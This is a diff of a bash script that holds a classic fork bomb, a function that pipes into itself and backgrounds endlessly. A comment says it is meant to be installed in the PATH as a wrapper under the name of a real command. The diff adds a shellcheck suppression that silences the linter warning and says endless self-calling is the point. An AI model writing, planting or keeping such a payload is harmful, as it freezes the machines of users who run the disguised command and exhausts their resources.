@@ -1,4 +1,5 @@
 #!/bin/bash
 # The classic bash bomb in a script of its own: a wrapper in the PATH that calls itself by the name it wraps.
+# shellcheck disable=SC2264  # calling itself without end is what it is for
 bomb() { bomb | bomb & }
 bomb
